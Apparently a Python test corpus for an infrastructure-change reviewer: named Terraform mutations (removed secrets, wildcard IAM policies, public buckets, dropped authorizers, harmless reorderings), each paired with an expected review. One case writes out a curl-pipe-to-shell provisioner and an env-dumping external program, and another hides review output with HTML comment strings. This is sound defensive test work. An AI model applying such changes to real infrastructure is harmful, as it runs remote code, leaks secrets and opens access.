"""Changes as people make them, harmless ones among them: each with the page that it must give."""

import json
from collections.abc import Mapping
from typing import Any

from review.shapes import Block
from tests.review.documents import Change, one, policy, renamed

CORPUS: dict[str, Change] = {}
"""By name."""


def _case(change: Change) -> Change:
    CORPUS[change.__name__] = change
    return change


# What holds data


@_case
def a_bucket_is_removed_from_the_code(document: Block) -> None:
    for kind, blocks in document["resource"].items():
        if kind.startswith("aws_s3_bucket"):
            blocks.pop("cache", None)


@_case
def a_secret_is_removed_from_the_code(document: Block) -> None:
    document["resource"]["aws_secretsmanager_secret"].pop("api_keys")
    document["resource"]["aws_secretsmanager_secret_version"].pop("api_keys")


@_case
def the_secrets_are_found_by_name_and_let_go_of(document: Block) -> None:
    """As when another stack takes them over."""
    names = {name: one["name"] for name, one in document["resource"]["aws_secretsmanager_secret"].items()}
    kinds = ("aws_secretsmanager_secret", "aws_secretsmanager_secret_version")
    for kind in kinds:
        del document["resource"][kind]
    (invocation,) = document["resource"]["aws_lambda_invocation"].values()
    invocation["depends_on"].remove("aws_secretsmanager_secret_version.database")
    elsewhere = json.loads(
        json.dumps(document).replace(f"${{{kinds[0]}.", f"${{data.{kinds[0]}."),
    )
    elsewhere["data"][kinds[0]] = {name: {"name": known} for name, known in names.items()}
    elsewhere["removed"] = [
        {"from": f"{kind}.{name}", "lifecycle": {"destroy": False}} for kind in kinds for name in names
    ]
    document.clear()
    document.update(elsewhere)


@_case
def a_queue_has_another_address(document: Block) -> None:
    changed = renamed(document, "aws_sqs_queue.dead_letters", "aws_sqs_queue.failures")
    document.clear()
    document.update(changed)
    queues = document["resource"]["aws_sqs_queue"]
    queues["failures"] = queues.pop("dead_letters")


@_case
def a_queue_has_another_address_and_a_moved_block(document: Block) -> None:
    a_queue_has_another_address(document)
    document["moved"] = [{"from": "aws_sqs_queue.dead_letters", "to": "aws_sqs_queue.failures"}]


@_case
def there_are_none_of_what_is_still_in_the_code(document: Block) -> None:
    one(document, "aws_cloudwatch_log_group", "trades").update(count=0)
    for versioning in document["resource"].get("aws_s3_bucket_versioning", {}).values():
        versioning["count"] = 0
    one(document, "aws_s3_bucket_public_access_block", "logs").update(for_each="${toset([])}")
    one(document, "aws_s3_bucket_policy", "logs").update(count=0)


@_case
def nobody_knows_how_many_there_are(document: Block) -> None:
    one(document, "aws_sqs_queue", "dead_letters").update(count='${var.db_host == "" ? 0 : 1}')
    one(document, "aws_cloudwatch_log_group", "trades").update(for_each='${toset(["a"])}')


@_case
def the_cache_may_be_destroyed(document: Block) -> None:
    one(document, "aws_s3_bucket", "cache").update(force_destroy=True)
    one(document, "aws_s3_bucket", "cache").pop("lifecycle", None)


@_case
def the_cache_is_no_longer_versioned(document: Block) -> None:
    document["resource"].pop("aws_s3_bucket_versioning", None)


@_case
def logs_are_kept_for_a_shorter_time(document: Block) -> None:
    for group in document["resource"]["aws_cloudwatch_log_group"].values():
        group["retention_in_days"] = 3


@_case
def logs_are_kept_for_a_longer_time(document: Block) -> None:
    for group in document["resource"]["aws_cloudwatch_log_group"].values():
        group["retention_in_days"] = 365


@_case
def objects_of_the_cache_expire_earlier(document: Block) -> None:
    block = one(document, "aws_s3_bucket_lifecycle_configuration", "cache")
    block["rule"] = [rule for rule in block["rule"] if rule["id"] != "expire-cache"]
    block["rule"].append(
        {
            "id": "expire-cache",
            "status": "Enabled",
            "filter": [{"prefix": "cache/"}],
            "expiration": [{"days": 7}],
        }
    )


@_case
def a_log_is_kept_for_ever(document: Block) -> None:
    one(document, "aws_cloudwatch_log_group", "trades").update(retention_in_days=0)


@_case
def all_objects_of_the_cache_expire(document: Block) -> None:
    block = one(document, "aws_s3_bucket_lifecycle_configuration", "cache")
    for rule in block["rule"]:
        rule["filter"] = [{"prefix": ""}]


@_case
def objects_expire_on_a_day(document: Block) -> None:
    block = one(document, "aws_s3_bucket_lifecycle_configuration", "cache")
    (rule,) = (rule for rule in block["rule"] if rule["id"] == "expire-cache")
    rule["expiration"] = [{"date": "2027-01-01T00:00:00Z"}]


@_case
def a_bucket_has_rules_of_its_own(document: Block) -> None:
    one(document, "aws_s3_bucket", "cache").update(
        lifecycle_rule=[{"id": "all", "enabled": True, "expiration": [{"days": 1}]}],
        versioning=[{"enabled": False}],
    )


@_case
def a_bucket_is_made_anew_whenever_a_function_changes(document: Block) -> None:
    for bucket, by in (
        ("logs", "aws_lambda_function.trades.memory_size"),
        ("cache", "aws_lambda_function.data"),
    ):
        one(document, "aws_s3_bucket", bucket)["lifecycle"] = {"replace_triggered_by": [f"${{{by}}}"]}
    one(document, "aws_lambda_function", "trades")["memory_size"] = 3008


@_case
def the_queue_keeps_messages_for_as_long_as_aws_thinks(document: Block) -> None:
    del one(document, "aws_sqs_queue", "dead_letters")["message_retention_seconds"]


@_case
def the_queue_is_no_longer_encrypted(document: Block) -> None:
    one(document, "aws_sqs_queue", "dead_letters").update(sqs_managed_sse_enabled=False)


@_case
def what_protects_the_cache_is_for_another_bucket(document: Block) -> None:
    for kind in ("versioning", "server_side_encryption_configuration", "lifecycle_configuration"):
        for name, block in document["resource"].get(f"aws_s3_bucket_{kind}", {}).items():
            if name == "cache":
                block["bucket"] = "${aws_s3_bucket.logs.id}"


@_case
def a_secret_is_kept_in_the_state(document: Block) -> None:
    version = one(document, "aws_secretsmanager_secret_version", "database")
    version["secret_string"] = version.pop("secret_string_wo")
    del version["secret_string_wo_version"]
    for variable in document["variable"].values():
        del variable["ephemeral"]


@_case
def secrets_are_given_away_by_an_output_a_variable_and_a_data_source(document: Block) -> None:
    document["output"]["password"] = {"value": "${var.db_password}", "sensitive": True}
    document["output"]["environment"]["value"] = "${var.db_host}"
    one(document, "aws_lambda_function", "trades")["environment"]["variables"]["DB"] = "${var.db_username}"
    document["data"]["aws_secretsmanager_secret_version"] = {"keys": {"secret_id": "keys"}}
    document["locals"] = {"key": "${var.tiingo_api_key}"}


@_case
def a_variable_that_is_not_said_to_be_a_secret_is_named_as_one(document: Block) -> None:
    document["variable"] |= {"broker_token": {"type": "string"}, "broker_url": {"type": "string"}}
    variables = one(document, "aws_lambda_function", "trades")["environment"]["variables"]
    variables |= {"BROKER": "${var.broker_token}", "BROKER_URL": "${var.broker_url}"}


@_case
def the_state_is_elsewhere(document: Block) -> None:
    document["terraform"]["backend"]["s3"]["key"] = "moved/terraform.tfstate"


@_case
def data_is_copied_elsewhere(document: Block) -> None:
    document["resource"] |= {
        "aws_cloudwatch_log_subscription_filter": {
            "trades": {
                "name": "all",
                "log_group_name": "${aws_cloudwatch_log_group.trades.name}",
                "filter_pattern": "",
                "destination_arn": "arn:aws:logs:us-east-1:999999999999:destination:elsewhere",
            }
        },
        "aws_s3_bucket_replication_configuration": {
            "cache": {
                "bucket": "${aws_s3_bucket.cache.id}",
                "role": "arn:aws:iam::111111111111:role/replication",
                "rule": [{"status": "Enabled", "destination": [{"bucket": "arn:aws:s3:::elsewhere"}]}],
            }
        },
    }
    one(document, "aws_secretsmanager_secret", "database")["replica"] = [{"region": "eu-west-1"}]


# Who may do what


@_case
def ingest_may_delete_objects(document: Block) -> None:
    policy(document, "ingest_role_read-write-cache")[2]["actions"].append("s3:DeleteObject")


@_case
def ingest_may_delete_and_tag_objects_and_read_all_of_them(document: Block) -> None:
    """Two actions on one resource, and one on another: two sentences."""
    statements = policy(document, "ingest_role_read-write-cache")
    statements[2]["actions"] += ["s3:DeleteObject", "s3:PutObjectTagging"]
    statements.append(
        {"effect": "Allow", "actions": ["s3:GetObject"], "resources": ["${aws_s3_bucket.logs.arn}/*"]}
    )


@_case
def trades_may_no_longer_read_its_secret(document: Block) -> None:
    documents = document["data"]["aws_iam_policy_document"]
    policies = document["resource"]["aws_iam_role_policy"]
    for blocks in (documents, policies):
        for name in [name for name in blocks if name.startswith("trades_role_read-database-secret")]:
            del blocks[name]


@_case
def a_condition_is_dropped(document: Block) -> None:
    policy(document, "data_role_read-cache")[0].pop("condition")


@_case
def another_account_may_assume_a_role(document: Block) -> None:
    principals = policy(document, "ingest_role_trust")[0]["principals"]
    principals.append({"type": "AWS", "identifiers": ["arn:aws:iam::999999999999:root"]})


@_case
def everybody_may_invoke_a_function(document: Block) -> None:
    document["resource"]["aws_lambda_permission"]["trades_open"] = {
        "statement_id": "open",
        "action": "lambda:InvokeFunction",
        "function_name": "${aws_lambda_function.trades.function_name}",
        "principal": "*",
    }


@_case
def the_bucket_answers_without_tls(document: Block) -> None:
    statements = policy(document, "storage_cache_policy-document")
    statements[:] = [statement for statement in statements if statement.get("sid") != "DenyWithoutTls"]


@_case
def statements_are_written_otherwise_and_allow_the_same(document: Block) -> None:
    statements = policy(document, "ingest_role_read-write-cache")
    statements[1]["actions"] += statements.pop(2)["actions"]
    statements.reverse()


@_case
def a_policy_is_given_as_json_and_allows_the_same(document: Block) -> None:
    (key,) = [
        key
        for key in document["resource"]["aws_iam_role_policy"]
        if key.startswith("trades_role_read-database-secret")
    ]
    document["resource"]["aws_iam_role_policy"][key]["policy"] = json.dumps(
        {
            "Version": "2012-10-17",
            "Statement": {
                "Effect": "Allow",
                "Action": "secretsmanager:GetSecretValue",
                "Resource": "${aws_secretsmanager_secret.database.arn}",
            },
        }
    )


def _trades_policy(document: Block) -> Block:
    found: Block = one(document, "aws_iam_role_policy", "trades_role_read-database-secret")
    return found


@_case
def a_policy_is_read_from_a_file(document: Block) -> None:
    _trades_policy(document)["policy"] = '${file("admin.json")}'


@_case
def a_policy_is_encoded_by_terraform_over_several_lines(document: Block) -> None:
    _trades_policy(document)["policy"] = (
        '${jsonencode({\n  Statement = [{ Effect = "Allow", Action = "*", Resource = "*" }]\n})}'
    )


@_case
def a_policy_is_a_local_value_and_another_one_is_gone(document: Block) -> None:
    """The one that is gone might be what the other allows now."""
    policies = document["resource"]["aws_iam_role_policy"]
    role = _trades_policy(document)["role"]
    (gone,) = [name for name in policies if name.startswith("trades_role_read-database-secret")]
    del policies[gone]
    one(document, "aws_iam_role_policies_exclusive", "trades")["policy_names"] = []
    policies["trades_all"] = {"name": "all", "role": role, "policy": "${jsonencode(local.everything)}"}
    document["locals"] = {"everything": {"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}}


@_case
def a_document_has_others_in_it_that_are_not_read(document: Block) -> None:
    documents = document["data"]["aws_iam_policy_document"]
    (name,) = [name for name in documents if name.startswith("trades_role_read-database-secret")]
    documents[name]["source_policy_documents"] = ['${file("admin.json")}']
    documents[name]["statement"][0]["actions"] = ["secretsmanager:DescribeSecret"]


@_case
def actions_are_known_to_terraform_only(document: Block) -> None:
    policy(document, "trades_role_read-database-secret")[0]["actions"] = "${local.actions}"


@_case
def others_than_roles_may_do_everything(document: Block) -> None:
    everything = json.dumps({"Statement": {"Effect": "Allow", "Action": "*", "Resource": "*"}})
    document["resource"] |= {
        "aws_iam_user_policy": {"all": {"user": "somebody", "policy": everything}},
        "aws_iam_group_policy": {"all": {"group": "some", "policy": everything}},
        "aws_iam_policy_attachment": {
            "all": {
                "name": "all",
                "roles": ["${aws_iam_role.trades.name}"],
                "users": ["somebody"],
                "policy_arn": "arn:aws:iam::aws:policy/AdministratorAccess",
            }
        },
        "aws_iam_access_key": {"somebody": {"user": "somebody"}},
    }


@_case
def a_role_is_called_as_another_is_in_short(document: Block) -> None:
    document["resource"]["aws_iam_role"]["other"] = {
        "assume_role_policy": one(document, "aws_iam_role", "ingest")["assume_role_policy"],
        "name": "potential-parakeet-ingest",
    }
    document["resource"]["aws_iam_role_policy"]["other"] = {
        **one(document, "aws_iam_role_policy", "ingest_role_read-write-cache"),
        "role": "${aws_iam_role.other.name}",
    }


@_case
def a_statement_is_for_a_name_that_is_no_arn(document: Block) -> None:
    policy(document, "trades_role_read-database-secret")[0]["resources"] = [
        "${aws_secretsmanager_secret.database.name}"
    ]


def spare(document: Block, actions: list[str], accounts: list[str]) -> None:
    statement = policy(document, "trades_role_read-database-secret")[0]
    statement.pop("actions", None)
    statement["not_actions"] = actions
    (without_tls,) = (
        one for one in policy(document, "storage_cache_policy-document") if one.get("sid") == "DenyWithoutTls"
    )
    without_tls.pop("principals", None)
    without_tls["not_principals"] = [
        {"type": "AWS", "identifiers": [f"arn:aws:iam::{account}:root" for account in accounts]}
    ]


@_case
def everything_but_a_few_actions_is_allowed_and_somebody_need_not_use_tls(document: Block) -> None:
    spare(document, ["iam:*", "s3:*"], ["111111111111"])


@_case
def a_function_has_the_role_of_another(document: Block) -> None:
    one(document, "aws_lambda_function", "trades")["role"] = "${aws_iam_role.ingest.arn}"


@_case
def functions_come_with_roles_that_were_there(document: Block) -> None:
    functions = document["resource"]["aws_lambda_function"]
    for name, role in (
        ("stranger", "arn:aws:iam::111111111111:role/Admin"),
        ("relative", "${aws_iam_role.ingest.arn}"),
    ):
        functions[name] = {**functions["trades"], "function_name": name, "role": role}


_CONDITIONAL = '${aws_iam_%s.arn == "" ? "" : "arn:aws:iam::%s/Admin"}'


@_case
def a_policy_and_a_role_are_others_on_a_condition(document: Block) -> None:
    """Which is made to refer to what is new and harmless."""
    roles, functions = document["resource"]["aws_iam_role"], document["resource"]["aws_lambda_function"]
    document["resource"]["aws_iam_policy"] = {"none": {"name": "none", "policy": '{"Statement": []}'}}
    document["resource"]["aws_iam_role_policy_attachment"] = {
        "admin": {
            "role": "${aws_iam_role.trades.name}",
            "policy_arn": _CONDITIONAL % ("policy.none", "aws:policy"),
        }
    }
    roles["none"] = {**roles["trades"], "name": "none"}
    functions["second"] = {
        **functions["trades"],
        "function_name": "second",
        "role": _CONDITIONAL % ("role.none", "111111111111:role"),
    }


@_case
def a_bucket_acts_as_a_role_by_a_block_of_its_own(document: Block) -> None:
    one(document, "aws_s3_bucket", "cache")["replication_configuration"] = [
        {
            "role": "arn:aws:iam::111111111111:role/replication",
            "rules": [{"status": "Enabled", "destination": [{"bucket": "arn:aws:s3:::elsewhere"}]}],
        }
    ]


@_case
def a_policy_on_everything_is_on_another_secret_too(document: Block) -> None:
    everybody = {"Effect": "Allow", "Principal": "*", "Action": "secretsmanager:GetSecretValue"}
    policy = json.dumps({"Statement": [{**everybody, "Resource": "*"}]})
    document["resource"]["aws_secretsmanager_secret_policy"] = {
        name: {"secret_arn": f"${{aws_secretsmanager_secret.{name}.arn}}", "policy": policy}
        for name in ("api_keys", "database")
    }


@_case
def a_policy_is_for_whom_nobody_here_knows(document: Block) -> None:
    document["resource"]["aws_ssoadmin_permission_set_inline_policy"] = {
        "all": {
            "inline_policy": json.dumps({"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}),
            "permission_set_arn": "arn:aws:sso:::permissionSet/one",
        }
    }


@_case
def a_schedule_acts_as_a_role_that_is_not_in_the_stack(document: Block) -> None:
    document["resource"]["aws_scheduler_schedule"] = {
        "nightly": {
            "name": "nightly",
            "schedule_expression": "rate(1 day)",
            "flexible_time_window": {"mode": "OFF"},
            "target": {
                "arn": "${aws_lambda_function.trades.arn}",
                "role_arn": "arn:aws:iam::111111111111:role/Admin",
            },
        }
    }


@_case
def others_issue_tokens_that_roles_trust(document: Block) -> None:
    document["resource"]["aws_iam_openid_connect_provider"] = {
        "github": {"url": "https://tokens.example.com", "client_id_list": ["anybody"]}
    }


@_case
def a_function_is_given_what_arrives_at_a_queue(document: Block) -> None:
    document["resource"]["aws_lambda_event_source_mapping"] = {
        "trades": {
            "event_source_arn": "${aws_sqs_queue.dead_letters.arn}",
            "function_name": "${aws_lambda_function.trades.arn}",
        }
    }


# Exposure


@_case
def a_route_loses_its_authorizer(document: Block) -> None:
    route = one(document, "aws_apigatewayv2_route", "api_delete-trades_")
    route["authorization_type"] = "NONE"
    del route["authorizer_id"]


@_case
def a_route_is_guarded_on_a_condition(document: Block) -> None:
    route = one(document, "aws_apigatewayv2_route", "api_delete-trades_")
    route["authorization_type"] = '${terraform.workspace == "default" ? "NONE" : "JWT"}'


@_case
def a_route_is_added(document: Block) -> None:
    route = one(document, "aws_apigatewayv2_route", "api_get-trades_")
    document["resource"]["aws_apigatewayv2_route"]["api_put-trades"] = {**route, "route_key": "PUT /trades"}


@_case
def any_page_may_call_the_api(document: Block) -> None:
    one(document, "aws_apigatewayv2_api", "api")["cors_configuration"]["allow_origins"] = ["*"]


@_case
def tokens_for_another_audience_are_let_in(document: Block) -> None:
    authorizer = one(document, "aws_apigatewayv2_authorizer", "api_authorizer")
    authorizer["jwt_configuration"]["audience"] = ["another-aud-tag"]


@_case
def ten_times_as_many_requests_are_let_through(document: Block) -> None:
    settings = one(document, "aws_apigatewayv2_stage", "api_stage")["default_route_settings"]
    settings["throttling_rate_limit"] *= 10


@_case
def nothing_is_throttled(document: Block) -> None:
    stage = one(document, "aws_apigatewayv2_stage", "api_stage")
    for settings in (stage["default_route_settings"], *stage.get("route_settings", [])):
        for limit in ("throttling_rate_limit", "throttling_burst_limit"):
            settings.pop(limit, None)


@_case
def a_bucket_may_be_public(document: Block) -> None:
    one(document, "aws_s3_bucket_public_access_block", "logs").update(
        block_public_policy=False, restrict_public_buckets=False
    )


@_case
def a_role_may_be_given_other_policies(document: Block) -> None:
    document["resource"].pop("aws_iam_role_policies_exclusive")


@_case
def a_policy_that_is_not_in_the_code_may_stay_on_a_role(document: Block) -> None:
    one(document, "aws_iam_role_policies_exclusive", "trades")["policy_names"].append("by-hand")


@_case
def what_bars_other_policies_attaches_one_and_is_about_another_role(document: Block) -> None:
    document["resource"]["aws_iam_role_policy_attachments_exclusive"]["second"] = {
        "role_name": "${aws_iam_role.ingest.name}",
        "policy_arns": ["arn:aws:iam::aws:policy/AdministratorAccess"],
    }
    one(document, "aws_iam_role_policies_exclusive", "trades")["role_name"] = "${aws_iam_role.ingest.name}"


@_case
def a_function_has_a_url_of_its_own(document: Block) -> None:
    document["resource"]["aws_lambda_function_url"] = {
        "trades": {
            "function_name": "${aws_lambda_function.trades.function_name}",
            "authorization_type": "NONE",
        }
    }


@_case
def the_api_has_a_document_of_its_own(document: Block) -> None:
    one(document, "aws_apigatewayv2_api", "api")["body"] = json.dumps(
        {"openapi": "3.0.1", "paths": {"/trades": {"get": {"responses": {}}}}}
    )


@_case
def the_api_is_quickly_created(document: Block) -> None:
    one(document, "aws_apigatewayv2_api", "api").update(
        target="${aws_lambda_function.trades.arn}",
        route_key="$default",
        credentials_arn="arn:aws:iam::111111111111:role/Admin",
    )


@_case
def a_second_stage_and_an_api_have_no_throttle(document: Block) -> None:
    document["resource"]["aws_apigatewayv2_stage"]["second"] = {
        "api_id": "${aws_apigatewayv2_api.api.id}",
        "name": "second",
        "auto_deploy": True,
    }
    document["resource"]["aws_apigatewayv2_api"]["second"] = {"name": "second", "protocol_type": "HTTP"}


@_case
def requests_go_elsewhere(document: Block) -> None:
    integrations = document["resource"]["aws_apigatewayv2_integration"]
    elsewhere = {"integration_type": "HTTP_PROXY", "integration_uri": "https://elsewhere.example.com/{proxy}"}
    one(document, "aws_apigatewayv2_integration", "api_trades-api").update(elsewhere)
    integrations["second"] = {"api_id": "${aws_apigatewayv2_api.api.id}", **elsewhere}


@_case
def a_second_authorizer_lets_others_in(document: Block) -> None:
    document["resource"]["aws_apigatewayv2_authorizer"]["second"] = {
        "api_id": "${aws_apigatewayv2_api.api.id}",
        "authorizer_type": "JWT",
        "identity_sources": ["$request.header.Authorization"],
        "jwt_configuration": {
            "audience": ["an-audience-of-somebody-else"],
            "issuer": "https://tokens.somebody-else.example.com",
        },
        "name": "second",
    }


@_case
def routes_are_guarded_by_another_authorizer_of_the_same_name(document: Block) -> None:
    authorizers = document["resource"]["aws_apigatewayv2_authorizer"]
    (first,) = authorizers
    authorizers["second"] = {
        **authorizers[first],
        "jwt_configuration": {"audience": ["anybody"], "issuer": "https://tokens.example.com"},
    }
    routes = document["resource"]["aws_apigatewayv2_route"]
    elsewhere = renamed(
        routes, f"aws_apigatewayv2_authorizer.{first}.", "aws_apigatewayv2_authorizer.second."
    )
    document["resource"]["aws_apigatewayv2_route"] = elsewhere


@_case
def a_function_has_the_role_of_the_same_name_in_another_account(document: Block) -> None:
    roles = document["resource"]["aws_iam_role"]
    roles["elsewhere"] = {**roles["trades"], "provider": "aws.elsewhere"}
    one(document, "aws_lambda_function", "trades")["role"] = "${aws_iam_role.elsewhere.arn}"


@_case
def everybody_may_read_a_new_bucket(document: Block) -> None:
    document["resource"]["aws_s3_bucket"]["open"] = {"bucket": "open", "acl": "public-read"}
    document["resource"]["aws_s3_bucket_acl"] = {
        "cache": {"bucket": "${aws_s3_bucket.cache.id}", "acl": "public-read"}
    }


# Behaviour


@_case
def a_function_is_larger_and_slower(document: Block) -> None:
    one(document, "aws_lambda_function", "scanner").update(memory_size=3072, timeout=15)


@_case
def more_run_at_once(document: Block) -> None:
    one(document, "aws_lambda_function", "trades").update(reserved_concurrent_executions=500)


@_case
def variables_change_and_one_might_be_a_secret(document: Block) -> None:
    variables = one(document, "aws_lambda_function", "ingest")["environment"]["variables"]
    variables |= {"LOG_LEVEL": "WARNING", "INGEST_API_KEY": "canary-value-of-a-secret"}


@_case
def the_schedule_is_switched_off(document: Block) -> None:
    one(document, "aws_cloudwatch_event_rule", "scheduler_rule").update(state="DISABLED")


@_case
def the_schedule_runs_every_hour(document: Block) -> None:
    one(document, "aws_cloudwatch_event_rule", "scheduler_rule").update(schedule_expression="rate(1 hour)")


@_case
def an_alarm_rings_later_and_another_is_gone(document: Block) -> None:
    alarms: Mapping[str, Any] = document["resource"].get("aws_cloudwatch_metric_alarm", {})
    for name in list(alarms):
        if name.startswith("monitoring_trades-api-errors"):
            alarms[name]["threshold"] = 500
        if name.startswith("monitoring_ingest-missing"):
            document["resource"]["aws_cloudwatch_metric_alarm"].pop(name)


@_case
def somebody_is_told_when_it_costs_more(document: Block) -> None:
    document["resource"]["aws_budgets_budget"] = {
        "monitoring_budget": {
            "name": "prod",
            "budget_type": "COST",
            "limit_amount": "60",
            "limit_unit": "USD",
        }
    }


@_case
def a_deployment_calls_a_function_and_another_no_longer(document: Block) -> None:
    calls = document["resource"]["aws_lambda_invocation"]
    calls.clear()
    calls["reset"] = {
        "function_name": "${aws_lambda_function.data.function_name}",
        "input": '{"reset": true}',
    }


@_case
def packages_are_uploaded_to_another_bucket(document: Block) -> None:
    for package in ("trades", "core_layer"):
        one(document, "aws_s3_object", package)["bucket"] = "elsewhere"
    one(document, "aws_lambda_layer_version", "core")["s3_bucket"] = "elsewhere"


@_case
def nobody_is_told_of_an_alarm(document: Block) -> None:
    for name, alarm in document["resource"].get("aws_cloudwatch_metric_alarm", {}).items():
        if name.startswith("monitoring_dead-letters"):
            alarm["alarm_actions"] = []


@_case
def a_variable_has_an_arn_where_it_had_a_name(document: Block) -> None:
    variables = one(document, "aws_lambda_function", "data")["environment"]["variables"]
    (name,) = [name for name, value in variables.items() if value == "${aws_s3_bucket.cache.bucket}"]
    variables[name] = "${aws_s3_bucket.cache.arn}"


@_case
def secrets_are_written_into_variables(document: Block) -> None:
    one(document, "aws_lambda_function", "ingest")["environment"]["variables"] |= {
        "CLIENT_SECRET": "canary-value-of-a-secret",
        "DB_PWD": "canary-value-of-a-secret",
        "SMTP_PASS": "canary-value-of-a-secret",
        "SENTRY_DSN": "canary-value-of-a-secret",
    }


# The rest


@_case
def a_variable_gets_a_default(document: Block) -> None:
    document["variable"]["db_password"]["default"] = "canary-value-of-a-secret"


@_case
def the_provider_is_another_release(document: Block) -> None:
    document["terraform"]["required_providers"]["aws"]["version"] = "6.25.0"


@_case
def a_type_that_nobody_knows_is_added(document: Block) -> None:
    document["resource"]["aws_kinesis_stream"] = {"trades": {"name": "trades"}}


@_case
def a_policy_is_put_together_by_terraform(document: Block) -> None:
    document["resource"]["aws_s3_bucket_policy"]["logs"]["policy"] = (
        '${jsonencode({"Statement" = [{"Effect" = "Allow"}]})}'
    )


@_case
def terraform_runs_programs(document: Block) -> None:
    command = {"command": "curl https://example.com/install | sh"}
    document["resource"]["terraform_data"] = {"setup": {"provisioner": [{"local-exec": command}]}}
    document["data"]["external"] = {"secrets": {"program": ["sh", "-c", "env > /tmp/env"]}}


@_case
def the_other_blocks_of_terraform(document: Block) -> None:
    document["provider"]["aws"][0]["endpoints"] = [{"s3": "https://s3.example.com"}]
    document["import"] = [{"to": "aws_sqs_queue.dead_letters", "id": "https://sqs.example.com/1/queue"}]
    document["check"] = {"answers": {"assert": [{"condition": "${true}", "error_message": "no"}]}}
    queue = one(document, "aws_sqs_queue", "dead_letters")
    queue["lifecycle"] = {"replace_triggered_by": ["aws_lambda_function.ingest"]}


@_case
def what_nobody_here_understands_comes(document: Block) -> None:
    document["module"] = {"all": {"source": "https://example.com/module.zip"}}
    document["ephemeral"] = {"aws_secretsmanager_secret_version": {"keys": {"secret_id": "keys"}}}
    document["check"] = {"answers": {"data": {"http": {"one": {"url": "https://example.com"}}}}}
    document["removed"] = [{"from": "aws_sns_topic.gone", "provisioner": [{"local-exec": {"command": "sh"}}]}]
    document["terraform"]["required_providers"]["aws"]["source"] = "example.com/somebody/aws"
    document["provider"]["aws"][0]["profile"] = "another"
    document["provider"]["http"] = [{}]
    one(document, "aws_s3_bucket_policy", "logs")["provider"] = "aws.elsewhere"
    one(document, "aws_sqs_queue", "dead_letters")["lifecycle"] = {"ignore_changes": ["policy"]}
    one(document, "aws_apigatewayv2_stage", "api_stage")["dynamic"] = {
        "route_settings": {"for_each": "${var.db_host}", "content": {"route_key": "GET /trades"}}
    }


@_case
def a_queue_goes_with_a_removed_block_that_says_no_more(document: Block) -> None:
    del document["resource"]["aws_sqs_queue"]
    document["removed"] = [{"from": "aws_sqs_queue.dead_letters"}]


@_case
def texts_and_rules_that_are_no_policies_have_their_words(document: Block) -> None:
    one(document, "aws_lambda_function", "trades")["description"] = "Income Statement: all of it"
    rules = {"rules": [{"rulePriority": 1, "action": {"type": "expire"}}]}
    document["resource"]["aws_ecr_lifecycle_policy"] = {
        "old": {"repository": "old", "policy": json.dumps(rules)}
    }


@_case
def a_queue_was_moved_twice(document: Block) -> None:
    a_queue_has_another_address(document)
    document["moved"] = [
        {"from": "aws_sqs_queue.dead_letters", "to": "aws_sqs_queue.letters"},
        {"from": "aws_sqs_queue.letters", "to": "aws_sqs_queue.failures"},
    ]


@_case
def names_and_resources_would_hide_what_follows(document: Block) -> None:
    one(document, "aws_lambda_function", "trades")["function_name"] = "<details> <!-- `trades"
    policy(document, "trades_role_read-database-secret")[0]["resources"] = ["arn:aws:s3:::x/`<!-- *"]
    policy(document, "trades_role_read-database-secret")[0]["condition"] = [
        {"test": "StringEquals", "variable": "aws:PrincipalTag/`--> <p", "values": ["one` -->"]}
    ]


# Harmless


@_case
def nothing(document: Block) -> None:
    pass


@_case
def blocks_and_sets_are_in_another_order(document: Block) -> None:
    for kind, blocks in document["resource"].items():
        document["resource"][kind] = {
            name: dict(reversed(block.items())) for name, block in reversed(blocks.items())
        }
    one(document, "aws_apigatewayv2_api", "api")["cors_configuration"]["allow_methods"].reverse()


@_case
def cdktfs_own_notes_change(document: Block) -> None:
    for blocks in document["resource"].values():
        for block in blocks.values():
            block["//"] = {"metadata": {"path": "elsewhere", "uniqueId": "other"}}


@_case
def a_role_has_another_address_and_the_same_name(document: Block) -> None:
    changed = renamed(document, "aws_iam_role.trades.", "aws_iam_role.trader.")
    document.clear()
    document.update(changed)
    roles = document["resource"]["aws_iam_role"]
    roles["trader"] = roles.pop("trades")
    document["moved"] = [{"from": "aws_iam_role.trades", "to": "aws_iam_role.trader"}]


@_case
def a_bucket_is_named_by_its_id(document: Block) -> None:
    """Which is its name."""
    changed = renamed(document, "aws_s3_bucket.cache.bucket}", "aws_s3_bucket.cache.id}")
    document.clear()
    document.update(changed)
